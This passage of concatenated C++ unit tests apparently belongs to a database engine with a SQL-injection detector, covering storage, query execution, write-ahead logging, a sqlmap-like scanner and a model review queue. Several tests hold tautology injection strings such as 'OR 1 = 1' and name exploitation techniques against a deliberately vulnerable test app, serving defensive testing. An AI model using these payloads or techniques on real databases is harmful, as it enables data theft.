  size_t blocked = 0;
  for (size_t i = 0; i < payloads.size(); ++i) {
    // SELECT: the payload is inert data — whatever it contains, it never
    // matches (and above all never tautologizes into) the secret row.
    auto sel_reply = raw.read_frame();
    ASSERT_TRUE(sel_reply.has_value()) << "reply " << i << " missing";
    EXPECT_EQ(sel_reply->payload.find("corpus-secret"), std::string::npos)
        << "injection via bound parameter: " << payloads[i];
    // INSERT: either stored as plain data or refused by the stored-
    // injection plugins — never a protocol break, never silence.
    auto ins_reply = raw.read_frame();
    ASSERT_TRUE(ins_reply.has_value()) << "reply " << i << " missing";
    if (ins_reply->op == Opcode::kError) {
      EXPECT_EQ(ins_reply->payload.rfind("BLOCKED", 0), 0u)
          << ins_reply->payload;
      ++blocked;
    } else {
      EXPECT_EQ(ins_reply->op, Opcode::kOk);
    }
  }
  // The corpus carries stored-injection payloads; the plugin battery must
  // catch them in bound parameters, not just in literals.
  EXPECT_GE(blocked, 1u);
  EXPECT_EQ(septic->stats().stored_detected, blocked);
  // The structural verdicts all happened at PREPARE: zero re-verdicts ran
  // on the EXEC path across the whole prevention-mode burst.
  EXPECT_EQ(db.prepared_reverdicts(), reverdicts_before);
  db.set_interceptor(nullptr);
}

}  // namespace
}  // namespace septic::net

#include "storage/catalog.h"

#include <gtest/gtest.h>

namespace septic::storage {
namespace {

using sql::Value;

TableSchema make_users_schema() {
  return TableSchema(
      "users",
      {{"id", ColumnType::kInt, false, true, true, std::nullopt},
       {"name", ColumnType::kText, true, false, false, std::nullopt},
       {"age", ColumnType::kInt, false, false, false, Value(int64_t{0})}});
}

TEST(Schema, ColumnLookupCaseInsensitive) {
  TableSchema s = make_users_schema();
  EXPECT_EQ(s.column_index("NAME"), 1);
  EXPECT_EQ(s.column_index("nope"), -1);
  EXPECT_EQ(s.primary_key_index(), 0);
}

TEST(Schema, CoerceToColumnType) {
  TableSchema s = make_users_schema();
  EXPECT_EQ(s.coerce_to_column(0, Value(std::string("42x"))).as_int(), 42);
  EXPECT_EQ(s.coerce_to_column(1, Value(int64_t{7})).as_string(), "7");
  EXPECT_TRUE(s.coerce_to_column(2, Value::null()).is_null());
}

TEST(Table, InsertScanRoundtrip) {
  Table t(make_users_schema());
  t.insert({Value(int64_t{1}), Value(std::string("a")), Value(int64_t{30})});
  t.insert({Value(int64_t{2}), Value(std::string("b")), Value(int64_t{40})});
  EXPECT_EQ(t.row_count(), 2u);
  size_t seen = 0;
  t.scan([&](size_t, const Row& r) {
    EXPECT_EQ(r.size(), 3u);
    ++seen;
    return true;
  });
  EXPECT_EQ(seen, 2u);
}

TEST(Table, AutoIncrementAssignsAndAdvances) {
  Table t(make_users_schema());
  auto r1 = t.insert({Value::null(), Value(std::string("a")), Value::null()});
  auto r2 = t.insert({Value::null(), Value(std::string("b")), Value::null()});
  EXPECT_EQ(r1.pk_value.as_int(), 1);
  EXPECT_EQ(r2.pk_value.as_int(), 2);
  // Explicit high PK bumps the counter past it.
  t.insert({Value(int64_t{100}), Value(std::string("c")), Value::null()});
  auto r4 = t.insert({Value::null(), Value(std::string("d")), Value::null()});
  EXPECT_EQ(r4.pk_value.as_int(), 101);
}

TEST(Table, DuplicatePkRejected) {
  Table t(make_users_schema());
  t.insert({Value(int64_t{1}), Value(std::string("a")), Value::null()});
  EXPECT_THROW(
      t.insert({Value(int64_t{1}), Value(std::string("b")), Value::null()}),
      StorageError);
}

TEST(Table, NotNullEnforced) {
  Table t(make_users_schema());
  EXPECT_THROW(t.insert({Value(int64_t{1}), Value::null(), Value::null()}),
               StorageError);
}

TEST(Table, ColumnCountMismatchRejected) {
  Table t(make_users_schema());
  EXPECT_THROW(t.insert({Value(int64_t{1})}), StorageError);
}

TEST(Table, FindByPkWithCoercion) {
  Table t(make_users_schema());
  t.insert({Value(int64_t{7}), Value(std::string("a")), Value::null()});
  EXPECT_GE(t.find_by_pk(Value(int64_t{7})), 0);
  // '7' finds 7 (probe coerced to the column type).
  EXPECT_GE(t.find_by_pk(Value(std::string("7"))), 0);
  EXPECT_EQ(t.find_by_pk(Value(int64_t{8})), -1);
}

TEST(Table, UpdateReindexesPk) {
  Table t(make_users_schema());
  auto r = t.insert({Value(int64_t{1}), Value(std::string("a")), Value::null()});
  t.update(r.slot, {{0, Value(int64_t{5})}});
  EXPECT_EQ(t.find_by_pk(Value(int64_t{1})), -1);
  EXPECT_GE(t.find_by_pk(Value(int64_t{5})), 0);
}

TEST(Table, UpdateToDuplicatePkRejected) {
  Table t(make_users_schema());
  t.insert({Value(int64_t{1}), Value(std::string("a")), Value::null()});
  auto r2 =
      t.insert({Value(int64_t{2}), Value(std::string("b")), Value::null()});
  EXPECT_THROW(t.update(r2.slot, {{0, Value(int64_t{1})}}), StorageError);
}

TEST(Table, EraseRemovesFromScanAndIndex) {
  Table t(make_users_schema());
  auto r = t.insert({Value(int64_t{1}), Value(std::string("a")), Value::null()});
  t.erase(r.slot);
  EXPECT_EQ(t.row_count(), 0u);
  EXPECT_EQ(t.find_by_pk(Value(int64_t{1})), -1);
  size_t seen = 0;
  t.scan([&](size_t, const Row&) {
    ++seen;
    return true;
  });
  EXPECT_EQ(seen, 0u);
}

TEST(Table, ScanEarlyStop) {
  Table t(make_users_schema());
  for (int i = 1; i <= 5; ++i) {
    t.insert({Value(int64_t{i}), Value(std::string("x")), Value::null()});
  }
  size_t seen = 0;
  t.scan([&](size_t, const Row&) {
    ++seen;
    return seen < 2;
  });
  EXPECT_EQ(seen, 2u);
}

TEST(TableMvcc, IndexAnswersFreshSnapshotsDespiteHistory) {
  Table t(make_users_schema());
  t.insert_versioned(
      {Value(int64_t{1}), Value(std::string("a")), Value(int64_t{30})}, 1);
  // Supersede the row at ts 2: history now exists.
  t.update_versioned(0, {{2, Value(int64_t{31})}}, 2);
  ASSERT_TRUE(t.has_old_versions());
  // A snapshot at or past the newest end timestamp sees no old version,
  // so the index over current images must answer (the perf-critical path:
  // autocommit point SELECTs after any write).
  auto fresh = t.index_eq_snapshot("id", Value(int64_t{1}), 2);
  ASSERT_TRUE(fresh.has_value());
  ASSERT_EQ(fresh->size(), 1u);
  EXPECT_EQ((*fresh)[0].second[2].as_int(), 31);
  // An older snapshot could still see the superseded image; the index is
  // incomplete for it, so the lookup declines and the caller scans.
  EXPECT_FALSE(t.index_eq_snapshot("id", Value(int64_t{1}), 1).has_value());
  std::optional<Row> old_img = t.fetch_snapshot(0, 1);
  ASSERT_TRUE(old_img.has_value());
  EXPECT_EQ((*old_img)[2].as_int(), 30);
  // Vacuuming the history never un-declines past snapshots (the mark is
  // monotone), but fresh snapshots keep the index.
  EXPECT_EQ(t.vacuum(2), 1u);
  EXPECT_FALSE(t.has_old_versions());
  EXPECT_TRUE(t.index_eq_snapshot("id", Value(int64_t{1}), 2).has_value());
}

TEST(Catalog, CreateFindDrop) {
  Catalog c;
  c.create_table(make_users_schema());
  EXPECT_NE(c.find("users"), nullptr);
  EXPECT_NE(c.find("USERS"), nullptr);  // case-insensitive
  EXPECT_THROW(c.create_table(make_users_schema()), StorageError);
  EXPECT_NO_THROW(c.create_table(make_users_schema(), /*if_not_exists=*/true));
  c.drop_table("users");
  EXPECT_EQ(c.find("users"), nullptr);
  EXPECT_THROW(c.drop_table("users"), StorageError);
  EXPECT_NO_THROW(c.drop_table("users", /*if_exists=*/true));
}

TEST(Catalog, RequireThrowsWithMySqlStyleMessage) {
  Catalog c;
  try {
    c.require("ghost");
    FAIL() << "expected StorageError";
  } catch (const StorageError& e) {
    EXPECT_NE(std::string(e.what()).find("doesn't exist"), std::string::npos);
  }
}

TEST(Catalog, SnapshotRoundTrip) {
  Catalog c;
  Table& t = c.create_table(make_users_schema());
  t.insert({Value::null(), Value(std::string("alice")), Value(int64_t{30})});
  t.insert({Value::null(), Value(std::string("bo|b;x")), Value::null()});

  std::string snap = c.save_snapshot();
  Catalog c2;
  c2.load_snapshot(snap);

  Table* t2 = c2.find("users");
  ASSERT_NE(t2, nullptr);
  EXPECT_EQ(t2->row_count(), 2u);
  EXPECT_EQ(t2->schema().column_count(), 3u);
  EXPECT_TRUE(t2->schema().column(0).auto_increment);
  EXPECT_TRUE(t2->schema().column(1).not_null);
  ASSERT_TRUE(t2->schema().column(2).default_value);
  // Auto-increment state preserved.
  EXPECT_EQ(t2->next_auto_increment(), t.next_auto_increment());
  // Values with separators intact.
  int64_t slot = t2->find_by_pk(Value(int64_t{2}));
  ASSERT_GE(slot, 0);
  EXPECT_EQ(t2->row(static_cast<size_t>(slot))[1].as_string(), "bo|b;x");
}

TEST(Catalog, SnapshotEmptyCatalog) {
  Catalog c;
  Catalog c2;
  c2.load_snapshot(c.save_snapshot());
  EXPECT_EQ(c2.table_count(), 0u);
}

TEST(Catalog, SnapshotRejectsGarbage) {
  Catalog c;
  EXPECT_THROW(c.load_snapshot("Z nonsense\n"), StorageError);
  EXPECT_THROW(c.load_snapshot("T t\nC a INT -\n"), StorageError);  // no '.'
  EXPECT_THROW(c.load_snapshot("R I1\n"), StorageError);  // row outside table
}

TEST(Catalog, FileRoundTrip) {
  Catalog c;
  Table& t = c.create_table(make_users_schema());
  t.insert({Value::null(), Value(std::string("x")), Value::null()});
  const std::string path = "/tmp/septic_test_catalog.snap";
  c.save_to_file(path);
  Catalog c2;
  c2.load_from_file(path);
  EXPECT_EQ(c2.require("users").row_count(), 1u);
  EXPECT_THROW(c2.load_from_file("/nonexistent/nope"), StorageError);
}

}  // namespace
}  // namespace septic::storage

#include "engine/executor.h"

#include <gtest/gtest.h>

#include "engine/database.h"
#include "engine/error.h"

namespace septic::engine {
namespace {

using sql::Value;

class ExecutorTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE emp (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT "
        "NOT NULL, dept TEXT, salary INT, bonus DOUBLE DEFAULT 0.0)");
    db.execute_admin(
        "INSERT INTO emp (name, dept, salary) VALUES "
        "('alice', 'eng', 120), ('bob', 'eng', 100), ('carol', 'sales', 90),"
        " ('dan', 'sales', 80), ('erin', 'hr', 70)");
    db.execute_admin(
        "CREATE TABLE dept (code TEXT PRIMARY KEY, label TEXT)");
    db.execute_admin(
        "INSERT INTO dept VALUES ('eng', 'Engineering'), "
        "('sales', 'Sales')");
  }

  ResultSet run(std::string_view q) { return db.execute(session, q); }

  Database db;
  Session session;
};

TEST_F(ExecutorTest, SelectStar) {
  auto rs = run("SELECT * FROM emp");
  EXPECT_EQ(rs.rows.size(), 5u);
  EXPECT_EQ(rs.columns.size(), 5u);
  EXPECT_EQ(rs.columns[1], "name");
}

TEST_F(ExecutorTest, WhereFiltering) {
  auto rs = run("SELECT name FROM emp WHERE salary > 90");
  EXPECT_EQ(rs.rows.size(), 2u);
}

TEST_F(ExecutorTest, WhereStringCoercionMySqlStyle) {
  // salary = '100abc' coerces to 100 — MySQL semantics.
  auto rs = run("SELECT name FROM emp WHERE salary = '100abc'");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "bob");
}

TEST_F(ExecutorTest, SelectExpressionsAndAliases) {
  auto rs = run("SELECT name, salary * 2 AS double_pay FROM emp WHERE id = 1");
  EXPECT_EQ(rs.columns[1], "double_pay");
  EXPECT_EQ(rs.rows[0][1].as_int(), 240);
}

TEST_F(ExecutorTest, OrderByAscDesc) {
  auto rs = run("SELECT name FROM emp ORDER BY salary DESC");
  EXPECT_EQ(rs.rows[0][0].as_string(), "alice");
  EXPECT_EQ(rs.rows[4][0].as_string(), "erin");
  rs = run("SELECT name FROM emp ORDER BY salary");
  EXPECT_EQ(rs.rows[0][0].as_string(), "erin");
}

TEST_F(ExecutorTest, OrderByAliasAndPosition) {
  auto rs = run("SELECT name, salary AS s FROM emp ORDER BY s DESC LIMIT 1");
  EXPECT_EQ(rs.rows[0][0].as_string(), "alice");
  rs = run("SELECT name, salary FROM emp ORDER BY 2 DESC LIMIT 1");
  EXPECT_EQ(rs.rows[0][0].as_string(), "alice");
}

TEST_F(ExecutorTest, LimitOffset) {
  auto rs = run("SELECT name FROM emp ORDER BY id LIMIT 2 OFFSET 1");
  ASSERT_EQ(rs.rows.size(), 2u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "bob");
  rs = run("SELECT name FROM emp ORDER BY id LIMIT 0");
  EXPECT_TRUE(rs.rows.empty());
  rs = run("SELECT name FROM emp ORDER BY id LIMIT 100 OFFSET 99");
  EXPECT_TRUE(rs.rows.empty());
}

TEST_F(ExecutorTest, AggregatesWithoutGroupBy) {
  auto rs = run(
      "SELECT COUNT(*), SUM(salary), AVG(salary), MIN(salary), MAX(salary) "
      "FROM emp");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_int(), 5);
  EXPECT_EQ(rs.rows[0][1].as_int(), 460);
  EXPECT_DOUBLE_EQ(rs.rows[0][2].as_double(), 92.0);
  EXPECT_EQ(rs.rows[0][3].as_int(), 70);
  EXPECT_EQ(rs.rows[0][4].as_int(), 120);
}

TEST_F(ExecutorTest, AggregateOverEmptySet) {
  auto rs = run("SELECT COUNT(*), SUM(salary) FROM emp WHERE salary > 999");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_int(), 0);
  EXPECT_TRUE(rs.rows[0][1].is_null());
}

TEST_F(ExecutorTest, GroupByWithHaving) {
  auto rs = run(
      "SELECT dept, COUNT(*) AS n, SUM(salary) FROM emp GROUP BY dept "
      "HAVING COUNT(*) >= 2 ORDER BY dept");
  ASSERT_EQ(rs.rows.size(), 2u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "eng");
  EXPECT_EQ(rs.rows[0][1].as_int(), 2);
  EXPECT_EQ(rs.rows[0][2].as_int(), 220);
}

TEST_F(ExecutorTest, InnerJoin) {
  auto rs = run(
      "SELECT e.name, d.label FROM emp e JOIN dept d ON e.dept = d.code "
      "WHERE e.salary >= 100 ORDER BY e.name");
  ASSERT_EQ(rs.rows.size(), 2u);
  EXPECT_EQ(rs.rows[0][1].as_string(), "Engineering");
}

TEST_F(ExecutorTest, LeftJoinKeepsUnmatched) {
  // erin's dept 'hr' has no dept row: LEFT JOIN keeps her with NULL label.
  auto rs = run(
      "SELECT e.name, d.label FROM emp e LEFT JOIN dept d ON e.dept = "
      "d.code WHERE e.name = 'erin'");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_TRUE(rs.rows[0][1].is_null());
}

TEST_F(ExecutorTest, CrossJoinTwoTables) {
  auto rs = run("SELECT COUNT(*) FROM emp, dept");
  EXPECT_EQ(rs.rows[0][0].as_int(), 10);  // 5 x 2
}

TEST_F(ExecutorTest, Distinct) {
  auto rs = run("SELECT DISTINCT dept FROM emp");
  EXPECT_EQ(rs.rows.size(), 3u);
}

TEST_F(ExecutorTest, UnionDeduplicatesUnionAllKeeps) {
  auto rs = run("SELECT dept FROM emp UNION SELECT dept FROM emp");
  EXPECT_EQ(rs.rows.size(), 3u);
  rs = run("SELECT dept FROM emp UNION ALL SELECT dept FROM emp");
  EXPECT_EQ(rs.rows.size(), 10u);
}

TEST_F(ExecutorTest, UnionColumnCountMismatchFails) {
  EXPECT_THROW(run("SELECT dept FROM emp UNION SELECT dept, salary FROM emp"),
               DbError);
}

TEST_F(ExecutorTest, TableLessSelect) {
  auto rs = run("SELECT 1 + 1, UPPER('x')");
  EXPECT_EQ(rs.rows[0][0].as_int(), 2);
  EXPECT_EQ(rs.rows[0][1].as_string(), "X");
}

TEST_F(ExecutorTest, LikeOperator) {
  auto rs = run("SELECT name FROM emp WHERE name LIKE '%ar%'");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "carol");
  rs = run("SELECT name FROM emp WHERE name LIKE '_ob'");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "bob");
}

TEST_F(ExecutorTest, InAndBetween) {
  auto rs = run("SELECT name FROM emp WHERE dept IN ('hr', 'sales') "
                "ORDER BY name");
  EXPECT_EQ(rs.rows.size(), 3u);
  rs = run("SELECT name FROM emp WHERE salary BETWEEN 80 AND 100");
  EXPECT_EQ(rs.rows.size(), 3u);
}

TEST_F(ExecutorTest, IsNullAndThreeValuedLogic) {
  db.execute_admin("INSERT INTO emp (name, dept, salary) VALUES "
                   "('noel', NULL, NULL)");
  auto rs = run("SELECT name FROM emp WHERE dept IS NULL");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "noel");
  // NULL salary row never matches a comparison (3VL).
  rs = run("SELECT COUNT(*) FROM emp WHERE salary > 0 OR salary <= 0");
  EXPECT_EQ(rs.rows[0][0].as_int(), 5);
}

TEST_F(ExecutorTest, ScalarFunctions) {
  auto rs = run(
      "SELECT CONCAT(name, '@corp'), LENGTH(name), SUBSTR(name, 1, 2), "
      "COALESCE(NULL, name), IF(salary > 100, 'top', 'std') FROM emp "
      "WHERE id = 1");
  EXPECT_EQ(rs.rows[0][0].as_string(), "alice@corp");
  EXPECT_EQ(rs.rows[0][1].as_int(), 5);
  EXPECT_EQ(rs.rows[0][2].as_string(), "al");
  EXPECT_EQ(rs.rows[0][3].as_string(), "alice");
  EXPECT_EQ(rs.rows[0][4].as_string(), "top");
}

TEST_F(ExecutorTest, DivisionByZeroYieldsNull) {
  auto rs = run("SELECT 1 / 0, 5 % 0");
  EXPECT_TRUE(rs.rows[0][0].is_null());
  EXPECT_TRUE(rs.rows[0][1].is_null());
}

TEST_F(ExecutorTest, InsertWithDefaultsAndLastInsertId) {
  auto rs = run("INSERT INTO emp (name) VALUES ('frank')");
  EXPECT_EQ(rs.affected_rows, 1);
  EXPECT_EQ(rs.last_insert_id, 6);
  auto check = run("SELECT dept, salary, bonus FROM emp WHERE id = 6");
  EXPECT_TRUE(check.rows[0][0].is_null());
  EXPECT_TRUE(check.rows[0][1].is_null());
  EXPECT_DOUBLE_EQ(check.rows[0][2].as_double(), 0.0);  // DEFAULT applied
}

TEST_F(ExecutorTest, InsertMultiRow) {
  auto rs = run("INSERT INTO emp (name, salary) VALUES ('g', 1), ('h', 2)");
  EXPECT_EQ(rs.affected_rows, 2);
}

TEST_F(ExecutorTest, InsertColumnCountMismatch) {
  EXPECT_THROW(run("INSERT INTO emp (name, salary) VALUES ('x')"), DbError);
}

TEST_F(ExecutorTest, InsertUnknownColumn) {
  try {
    run("INSERT INTO emp (ghost) VALUES (1)");
    FAIL();
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kUnknownColumn);
  }
}

TEST_F(ExecutorTest, UpdateWithExpressionAndWhere) {
  auto rs = run("UPDATE emp SET salary = salary + 10 WHERE dept = 'eng'");
  EXPECT_EQ(rs.affected_rows, 2);
  auto check = run("SELECT salary FROM emp WHERE name = 'alice'");
  EXPECT_EQ(check.rows[0][0].as_int(), 130);
}

TEST_F(ExecutorTest, UpdateNoMatchAffectsZero) {
  auto rs = run("UPDATE emp SET salary = 0 WHERE name = 'ghost'");
  EXPECT_EQ(rs.affected_rows, 0);
}

TEST_F(ExecutorTest, DeleteWithWhere) {
  auto rs = run("DELETE FROM emp WHERE dept = 'sales'");
  EXPECT_EQ(rs.affected_rows, 2);
  EXPECT_EQ(run("SELECT COUNT(*) FROM emp").rows[0][0].as_int(), 3);
}

TEST_F(ExecutorTest, CreateAndDropTable) {
  run("CREATE TABLE tmp (x INT)");
  run("INSERT INTO tmp VALUES (1)");
  EXPECT_EQ(run("SELECT COUNT(*) FROM tmp").rows[0][0].as_int(), 1);
  run("DROP TABLE tmp");
  EXPECT_THROW(run("SELECT * FROM tmp"), DbError);
}

TEST_F(ExecutorTest, UnknownTableError) {
  try {
    run("SELECT * FROM nope");
    FAIL();
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kUnknownTable);
  }
}

TEST_F(ExecutorTest, UnknownColumnError) {
  try {
    run("SELECT ghost FROM emp");
    FAIL();
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kUnknownColumn);
  }
}

TEST_F(ExecutorTest, AmbiguousColumnError) {
  db.execute_admin("CREATE TABLE emp2 (name TEXT)");
  EXPECT_THROW(run("SELECT name FROM emp, emp2"), DbError);
}

TEST_F(ExecutorTest, SyntaxErrorSurfacesAsDbError) {
  try {
    run("SELEKT * FROM emp");
    FAIL();
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kSyntax);
  }
}

TEST_F(ExecutorTest, DuplicatePkSurfacesAsConstraint) {
  try {
    run("INSERT INTO emp (id, name) VALUES (1, 'dup')");
    FAIL();
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kConstraint);
  }
}

TEST_F(ExecutorTest, ExecutedAndBlockedCounters) {
  uint64_t before = db.executed_count();
  run("SELECT 1");
  EXPECT_EQ(db.executed_count(), before + 1);
  EXPECT_EQ(db.blocked_count(), 0u);
}

TEST_F(ExecutorTest, ResultToText) {
  auto rs = run("SELECT name, salary FROM emp WHERE id = 1");
  std::string text = rs.to_text();
  EXPECT_NE(text.find("name\tsalary"), std::string::npos);
  EXPECT_NE(text.find("alice\t120"), std::string::npos);
}

}  // namespace
}  // namespace septic::engine

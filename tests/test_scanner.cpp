// Tests for the sqlmap-like scanner and the admin review queue.
#include <gtest/gtest.h>

#include <memory>

#include "attacks/scanner.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

namespace septic::attacks {
namespace {

struct Rig {
  engine::Database db;
  web::apps::TicketsApp app;
  std::unique_ptr<web::WebStack> stack;
  std::shared_ptr<core::Septic> septic;

  explicit Rig(bool with_septic) {
    app.install(db);
    stack = std::make_unique<web::WebStack>(app, db);
    if (with_septic) {
      septic = std::make_shared<core::Septic>();
      db.set_interceptor(septic);
      septic->set_mode(core::Mode::kTraining);
      web::train_on_application(*stack);
      septic->set_mode(core::Mode::kPrevention);
    }
  }
};

bool has_finding(const ScanReport& report, const std::string& path,
                 const std::string& param, const std::string& technique) {
  for (const auto& f : report.findings) {
    if (f.path == path && f.param == param && f.technique == technique) {
      return true;
    }
  }
  return false;
}

TEST(Scanner, FindsTheKnownVulnerabilitiesUnprotected) {
  Rig rig(/*with_septic=*/false);
  ScanReport report = scan_application(*rig.stack);
  ASSERT_TRUE(report.vulnerable());
  // The numeric-context hole in /ticket.
  EXPECT_TRUE(has_finding(report, "/ticket", "creditCard",
                          "boolean-differential"));
  EXPECT_TRUE(has_finding(report, "/ticket", "creditCard", "error-based"));
  // The Unicode mismatch in the quoted reservID.
  EXPECT_TRUE(has_finding(report, "/ticket", "reservID", "unicode-quote"));
  EXPECT_TRUE(
      has_finding(report, "/ticket", "reservID", "unicode-tautology"));
  EXPECT_EQ(report.probes_blocked, 0u);
}

TEST(Scanner, PreparedStatementRouteHasNoFindings) {
  Rig rig(false);
  ScanReport report = scan_application(*rig.stack);
  // /profile writes through prepared statements: no technique can find an
  // injection there (its parameters are data by construction).
  for (const auto& f : report.findings) {
    EXPECT_NE(f.path, "/profile") << f.technique << " on " << f.param;
  }
}

TEST(Scanner, SepticBlocksAllExploitationTechniques) {
  Rig rig(/*with_septic=*/true);
  ScanReport report = scan_application(*rig.stack);
  EXPECT_GT(report.probes_blocked, 0u);
  // Differential (exploiting) techniques must be gone; error-based probes
  // that break SQL syntax die in the parser BEFORE SEPTIC's hook and still
  // reveal the flaw's existence — blocking attacks, not error signatures.
  for (const auto& f : report.findings) {
    EXPECT_TRUE(f.technique == "error-based" ||
                f.technique == "unicode-quote")
        << f.technique << " on " << f.path << ":" << f.param;
  }
}

TEST(Scanner, StableEndpointsRequiredForDifferentials) {
  // The report never contains differential findings for non-idempotent
  // routes (insert-id counters change every response).
  Rig rig(false);
  ScanReport report = scan_application(*rig.stack);
  for (const auto& f : report.findings) {
    if (f.technique == "boolean-differential" ||
        f.technique == "unicode-tautology") {
      EXPECT_NE(f.path, "/profile");
    }
  }
}

TEST(Scanner, CountsAreConsistent) {
  Rig rig(false);
  ScanReport report = scan_application(*rig.stack);
  EXPECT_EQ(report.forms_scanned, rig.app.forms().size());
  size_t params = 0;
  for (const auto& form : rig.app.forms()) params += form.fields.size();
  EXPECT_EQ(report.params_probed, params);
  EXPECT_GE(report.requests_sent, params * 4);  // several probes per param
}

}  // namespace
}  // namespace septic::attacks

namespace septic::core {
namespace {

class ReviewTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE r (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
    db.execute_admin("INSERT INTO r (v) VALUES ('a')");
    septic = std::make_shared<Septic>();
    db.set_interceptor(septic);
    septic->set_mode(Mode::kPrevention);  // everything learned is pending
  }

  engine::Database db;
  engine::Session session;
  std::shared_ptr<Septic> septic;
};

TEST_F(ReviewTest, IncrementalModelsAreQueued) {
  db.execute(session, "SELECT v FROM r WHERE id = 1");
  ASSERT_EQ(septic->review_queue().pending_count(), 1u);
  auto pending = septic->review_queue().pending();
  EXPECT_EQ(pending[0].sample_query, "SELECT v FROM r WHERE id = 1");
  EXPECT_FALSE(pending[0].query_id.empty());
}

TEST_F(ReviewTest, TrainingModeModelsAreNotQueued) {
  septic->set_mode(Mode::kTraining);
  db.execute(session, "SELECT v FROM r WHERE id = 1");
  EXPECT_EQ(septic->review_queue().pending_count(), 0u);
}

TEST_F(ReviewTest, ApproveKeepsModel) {
  db.execute(session, "SELECT v FROM r WHERE id = 1");
  uint64_t review_id = septic->review_queue().pending()[0].review_id;
  EXPECT_TRUE(septic->approve_model(review_id));
  EXPECT_EQ(septic->review_queue().pending_count(), 0u);
  EXPECT_EQ(septic->store().model_count(), 1u);
  // Benign re-occurrence passes; attack variant is caught.
  EXPECT_NO_THROW(db.execute(session, "SELECT v FROM r WHERE id = 7"));
  EXPECT_THROW(db.execute(session, "SELECT v FROM r WHERE id = 7 OR 1 = 1"),
               engine::DbError);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kModelApproved), 1u);
}

TEST_F(ReviewTest, RejectRemovesModelFromStore) {
  // Suppose an attacker's query was the FIRST occurrence and got learned.
  db.execute(session, "SELECT v FROM r WHERE id = 1 OR 1 = 1");
  ASSERT_EQ(septic->store().model_count(), 1u);
  uint64_t review_id = septic->review_queue().pending()[0].review_id;
  EXPECT_TRUE(septic->reject_model(review_id));
  EXPECT_EQ(septic->store().model_count(), 0u);
  EXPECT_EQ(septic->event_log().count_of(EventKind::kModelRejected), 1u);
  // In strict mode, the rejected shape now gets dropped outright.
  septic->set_incremental_learning(false);
  EXPECT_THROW(db.execute(session, "SELECT v FROM r WHERE id = 1 OR 1 = 1"),
               engine::DbError);
}

TEST_F(ReviewTest, UnknownReviewIdRejected) {
  EXPECT_FALSE(septic->approve_model(999));
  EXPECT_FALSE(septic->reject_model(999));
}

TEST_F(ReviewTest, TakeAndFind) {
  db.execute(session, "SELECT v FROM r WHERE id = 1");
  db.execute(session, "SELECT id FROM r WHERE v = 'a'");
  ASSERT_EQ(septic->review_queue().pending_count(), 2u);
  uint64_t first = septic->review_queue().pending()[0].review_id;
  EXPECT_TRUE(septic->review_queue().find(first).has_value());
  septic->approve_model(first);
  EXPECT_FALSE(septic->review_queue().find(first).has_value());
  EXPECT_EQ(septic->review_queue().pending_count(), 1u);
}

}  // namespace
}  // namespace septic::core

// WAL-backed durable storage (PR 7): record codec, salvage scan, group
// commit, paged checkpoints, recovery replay, and the engine integration
// — reopen-the-directory persistence for DML, DDL, and transactions,
// plus an 8-thread group-commit stress with exact counter reconciliation.
//
// Crash-at-instruction scenarios (child process killed at a failpoint)
// live in test_recovery_crash.cpp; this file covers everything reachable
// without killing the process.
#include <gtest/gtest.h>

#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "common/atomic_file.h"
#include "common/failpoint.h"
#include "engine/database.h"
#include "engine/error.h"
#include "storage/catalog.h"
#include "storage/wal/durable.h"
#include "storage/wal/pager.h"
#include "storage/wal/wal.h"

namespace septic {
namespace {

namespace fp = common::failpoints;
namespace wal = storage::wal;
using engine::Database;
using engine::DbError;
using engine::ErrorCode;
using engine::Session;

std::string fresh_dir(const char* tag) {
  static std::atomic<int> counter{0};
  std::string dir = "/tmp/septic_durable_" + std::string(tag) + "_" +
                    std::to_string(::getpid()) + "_" +
                    std::to_string(counter.fetch_add(1));
  std::filesystem::remove_all(dir);
  return dir;
}

wal::DurableStorage::Options dir_opts(
    const std::string& dir, wal::DurabilityMode mode = wal::DurabilityMode::kFull) {
  wal::DurableStorage::Options o;
  o.dir = dir;
  o.mode = mode;
  return o;
}

class DurableDirTest : public ::testing::Test {
 protected:
  void TearDown() override {
    for (const auto& d : dirs_) std::filesystem::remove_all(d);
  }
  std::string make_dir(const char* tag) {
    dirs_.push_back(fresh_dir(tag));
    return dirs_.back();
  }
  std::vector<std::string> dirs_;
};

// ------------------------------------------------------------ record codec

TEST(WalCodec, CommitRecordRoundTripsAllOpKinds) {
  wal::WalRecord rec;
  rec.lsn = 7;
  rec.type = wal::RecordType::kCommit;
  rec.txn_id = 42;
  rec.ops.push_back(wal::RedoOp::insert(
      "t1", 3,
      {sql::Value(int64_t{1}), sql::Value(std::string("a b\nc:d")),
       sql::Value::null()}));
  rec.ops.push_back(wal::RedoOp::update(
      "t2", 9,
      {{0, sql::Value(2.5)}, {2, sql::Value(std::string(""))}}));
  rec.ops.push_back(wal::RedoOp::erase("t3", 12));

  wal::WalRecord back;
  ASSERT_TRUE(wal::decode_record(wal::encode_record(rec), back));
